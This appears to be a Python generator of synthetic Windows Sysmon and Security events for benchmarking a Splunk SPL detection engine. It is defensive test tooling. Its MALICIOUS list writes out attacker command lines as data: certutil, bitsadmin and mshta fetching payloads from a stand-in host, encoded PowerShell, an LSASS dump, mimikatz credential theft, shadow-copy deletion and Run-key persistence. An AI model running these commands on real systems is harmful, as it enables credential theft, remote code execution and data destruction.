#!/usr/bin/env python3
"""Generate Splunk-style Windows events as JSON lines for benchmarking the
SPL engine (`rulecheck-spl`): Sysmon EventID 1, 3, 11, 13 and 22 and
Security 4688, each with `_time` (epoch seconds), `index`, `sourcetype`,
`source`, `host`, `Channel`, `Computer` and the fields of its event type.
Like every event Splunk indexes, each has an index (`windows`), so searches
of other indexes (`index=risk`, `index=unix`) do not read these events.

About 3% of the events carry well-known malicious patterns (encoded
PowerShell, certutil downloads, discovery from msiexec, Run keys, shadow
copy deletion, ...), so real security_content detections fire on them.
Deterministic for a given --seed.

    python3 gen_events.py --count 1000000 --out events.jsonl
"""

import argparse
import json
import random

INDEX = "windows"
SYSMON_CHANNEL = "Microsoft-Windows-Sysmon/Operational"
SYSMON_ST = "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational"
SECURITY_ST = "XmlWinEventLog"
SECURITY_SOURCE = "XmlWinEventLog:Security"
START = 1_773_400_000

BENIGN = [
    # (image, command line, parent image)
    ("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
     "C:\\Windows\\System32\\services.exe"),
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
     "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US",
     "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"),
    ("C:\\Windows\\explorer.exe", "C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\userinit.exe"),
    ("C:\\Windows\\System32\\conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
     "C:\\Windows\\System32\\cmd.exe"),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
     "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\jdoe\\Documents\\report.docx\"",
     "C:\\Windows\\explorer.exe"),
    ("C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}",
     "C:\\Windows\\System32\\svchost.exe"),
    ("C:\\Windows\\System32\\SearchProtocolHost.exe",
     "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe1_",
     "C:\\Windows\\System32\\SearchIndexer.exe"),
    ("C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
     "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --type=utility",
     "C:\\Windows\\explorer.exe"),
    ("C:\\Windows\\System32\\backgroundTaskHost.exe",
     "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca",
     "C:\\Windows\\System32\\svchost.exe"),
    ("C:\\Windows\\System32\\git.exe", "git status --porcelain", "C:\\Windows\\System32\\cmd.exe"),
]

MALICIOUS = [
    ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
     "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
     "C:\\Windows\\System32\\cmd.exe"),
    ("C:\\Windows\\System32\\certutil.exe",
     "certutil.exe -urlcache -split -f http://198.51.100.7/payload.exe C:\\Users\\Public\\p.exe",
     "C:\\Windows\\System32\\cmd.exe"),
    ("C:\\Windows\\System32\\nltest.exe", "nltest.exe /domain_trusts", "C:\\Windows\\System32\\msiexec.exe"),
    ("C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet",
     "C:\\Windows\\System32\\cmd.exe"),
    ("C:\\Windows\\System32\\rundll32.exe",
     "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\lsass.dmp full",
     "C:\\Windows\\System32\\cmd.exe"),
    ("C:\\Windows\\System32\\whoami.exe", "whoami /all", "C:\\Windows\\System32\\cmd.exe"),
    ("C:\\Windows\\System32\\schtasks.exe",
     "schtasks.exe /create /sc minute /mo 5 /tn Updater /tr C:\\Users\\Public\\u.exe /f",
     "C:\\Windows\\System32\\cmd.exe"),
    ("C:\\Windows\\System32\\mshta.exe", "mshta.exe http://198.51.100.7/a.hta",
     "C:\\Windows\\explorer.exe"),
    ("C:\\Windows\\System32\\wbem\\WMIC.exe", "wmic.exe process call create calc.exe",
     "C:\\Windows\\System32\\cmd.exe"),
    ("C:\\Windows\\System32\\bitsadmin.exe",
     "bitsadmin.exe /transfer job /download /priority high http://198.51.100.7/x.exe C:\\Temp\\x.exe",
     "C:\\Windows\\System32\\cmd.exe"),
    ("C:\\Windows\\System32\\reg.exe",
     "reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d C:\\Users\\Public\\u.exe /f",
     "C:\\Windows\\System32\\cmd.exe"),
    ("C:\\Windows\\System32\\cmstp.exe", "cmstp.exe /s /ns C:\\Users\\Public\\evil.inf",
     "C:\\Windows\\explorer.exe"),
    # Tools found by hunting searches that aggregate every process and then
    # filter on lookups or on the command line.
    ("C:\\Users\\Public\\AnyDesk.exe", "AnyDesk.exe --control", "C:\\Windows\\explorer.exe"),
    ("C:\\Users\\Public\\AdvancedRun.exe", "AdvancedRun.exe /EXEFilename C:\\Windows\\System32\\cmd.exe /Run",
     "C:\\Windows\\System32\\cmd.exe"),
    ("C:\\Temp\\mimikatz.exe", "mimikatz.exe privilege::debug sekurlsa::logonpasswords exit",
     "C:\\Windows\\System32\\cmd.exe"),
    ("C:\\Windows\\System32\\cmd.exe",
     "cmd.exe /c type ..\\..\\..\\..\\..\\Windows\\win.ini",
     "C:\\Windows\\System32\\w3wp.exe"),
]

USERS = ["CORP\\jdoe", "CORP\\asmith", "CORP\\svc_backup", "NT AUTHORITY\\SYSTEM", "CORP\\mlee"]
HOSTS = [f"WS-{dept}-{n:03d}.corp.example.com" for dept in ("FIN", "ENG", "HR", "OPS") for n in range(1, 26)]
DOMAINS = ["www.google.com", "outlook.office365.com", "login.microsoftonline.com", "github.com",
           "update.corp.example.com", "cdn.jsdelivr.net", "teams.microsoft.com"]
BAD_DOMAINS = ["pastebin.com", "raw.githubusercontent.com", "ngrok.io", "transfer.sh",
               "c2.dyndns-at-home.com"]
REG_KEYS = ["HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\ShellFolders\\Cache",
            "HKU\\S-1-5-21-1\\Software\\Microsoft\\Office\\16.0\\Common\\Roaming\\Identities",
            "HKLM\\SYSTEM\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\S-1-5-21-1"]
BAD_REG_KEYS = ["HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
                "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware",
                "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa\\DisableRestrictedAdmin"]
FILES = ["C:\\Users\\jdoe\\AppData\\Local\\Temp\\~DF1A2B.tmp", "C:\\Windows\\Prefetch\\CHROME.EXE-1A2B3C4D.pf",
         "C:\\Users\\jdoe\\Documents\\report.docx", "C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\mpcache.bin"]
BAD_FILES = ["C:\\Users\\Public\\p.exe", "C:\\Windows\\Temp\\lsass.dmp",
             "C:\\Users\\jdoe\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u.lnk",
             "C:\\Windows\\System32\\Tasks\\Updater"]


def base(rng, t, event_id):
    host = rng.choice(HOSTS)
    return {
        "_time": t,
        "index": INDEX,
        "host": host,
        "Computer": host,
        "sourcetype": SYSMON_ST,
        "source": SYSMON_ST,
        "Channel": SYSMON_CHANNEL,
        "EventID": event_id,
        "EventCode": event_id,
        "RecordID": rng.randrange(1, 10_000_000),
    }


def guid(rng):
    return "{%08X-%04X-%04X-%04X-%012X}" % (rng.getrandbits(32), rng.getrandbits(16), rng.getrandbits(16),
                                            rng.getrandbits(16), rng.getrandbits(48))


def process(rng, bad):
    return rng.choice(MALICIOUS) if bad else rng.choice(BENIGN)


def sysmon_1(rng, t, bad):
    e = base(rng, t, 1)
    image, cmd, parent = process(rng, bad)
    e.update({
        "ProcessGuid": guid(rng), "ProcessId": rng.randrange(100, 20000), "Image": image,
        "OriginalFileName": image.rsplit("\\", 1)[-1].upper(), "CommandLine": cmd,
        "CurrentDirectory": "C:\\Windows\\system32\\", "User": rng.choice(USERS),
        "IntegrityLevel": rng.choice(["Medium", "High", "System"]),
        "Hashes": "SHA256=%064X" % rng.getrandbits(256),
        "ParentProcessGuid": guid(rng), "ParentProcessId": rng.randrange(100, 20000),
        "ParentImage": parent, "ParentCommandLine": parent,
    })
    return e


def sysmon_3(rng, t, bad):
    e = base(rng, t, 3)
    image = rng.choice(MALICIOUS if bad else BENIGN)[0]
    e.update({
        "ProcessGuid": guid(rng), "ProcessId": rng.randrange(100, 20000), "Image": image,
        "User": rng.choice(USERS), "Protocol": "tcp", "Initiated": "true",
        "SourceIp": f"10.{rng.randrange(1, 4)}.{rng.randrange(256)}.{rng.randrange(1, 255)}",
        "SourcePort": rng.randrange(49152, 65535),
        "DestinationIp": "198.51.100.7" if bad else f"{rng.randrange(1, 223)}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}",
        "DestinationPort": rng.choice([4444, 8080]) if bad else rng.choice([443, 443, 443, 80, 53, 445]),
        "DestinationHostname": rng.choice(BAD_DOMAINS if bad else DOMAINS),
    })
    return e


def sysmon_11(rng, t, bad):
    e = base(rng, t, 11)
    image = rng.choice(MALICIOUS if bad else BENIGN)[0]
    e.update({
        "ProcessGuid": guid(rng), "ProcessId": rng.randrange(100, 20000), "Image": image,
        "TargetFilename": rng.choice(BAD_FILES if bad else FILES), "User": rng.choice(USERS),
        "CreationUtcTime": "2026-03-13 11:00:00.000",
    })
    return e


def sysmon_13(rng, t, bad):
    e = base(rng, t, 13)
    image = rng.choice(MALICIOUS if bad else BENIGN)[0]
    e.update({
        "EventType": "SetValue", "ProcessGuid": guid(rng), "ProcessId": rng.randrange(100, 20000),
        "Image": image, "TargetObject": rng.choice(BAD_REG_KEYS if bad else REG_KEYS),
        "Details": "DWORD (0x00000001)" if bad else "Binary Data", "User": rng.choice(USERS),
    })
    return e


def sysmon_22(rng, t, bad):
    e = base(rng, t, 22)
    image = rng.choice(MALICIOUS if bad else BENIGN)[0]
    e.update({
        "ProcessGuid": guid(rng), "ProcessId": rng.randrange(100, 20000), "Image": image,
        "QueryName": rng.choice(BAD_DOMAINS if bad else DOMAINS), "QueryStatus": "0",
        "QueryResults": "::ffff:198.51.100.7;", "User": rng.choice(USERS),
    })
    return e


def security_4688(rng, t, bad):
    host = rng.choice(HOSTS)
    image, cmd, parent = process(rng, bad)
    user = rng.choice(USERS)
    return {
        "_time": t, "index": INDEX, "host": host, "Computer": host, "sourcetype": SECURITY_ST, "source": SECURITY_SOURCE,
        "Channel": "Security", "EventID": 4688, "EventCode": 4688, "RecordID": rng.randrange(1, 10_000_000),
        "SubjectUserSid": "S-1-5-21-1-1001", "SubjectUserName": user.split("\\")[1],
        "SubjectDomainName": user.split("\\")[0], "SubjectLogonId": "0x3e7",
        "NewProcessId": hex(rng.randrange(0x100, 0x8000)), "NewProcessName": image,
        "TokenElevationType": "%%1936", "ProcessId": hex(rng.randrange(0x100, 0x8000)),
        "CommandLine": cmd, "ParentProcessName": parent, "MandatoryLabel": "S-1-16-12288",
    }


KINDS = [(sysmon_1, 30), (sysmon_3, 25), (sysmon_11, 15), (sysmon_13, 12), (sysmon_22, 10), (security_4688, 8)]


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--count", type=int, default=1_000_000)
    parser.add_argument("--out", required=True)
    parser.add_argument("--seed", type=int, default=7)
    parser.add_argument("--bad-rate", type=float, default=0.03)
    args = parser.parse_args()
    rng = random.Random(args.seed)
    makers = [m for m, w in KINDS for _ in range(w)]
    with open(args.out, "w", encoding="utf-8") as out:
        for i in range(args.count):
            t = START + i * 86_400 // max(args.count, 1)
            event = rng.choice(makers)(rng, t, rng.random() < args.bad_rate)
            out.write(json.dumps(event, separators=(",", ":")))
            out.write("\n")


if __name__ == "__main__":
    main()
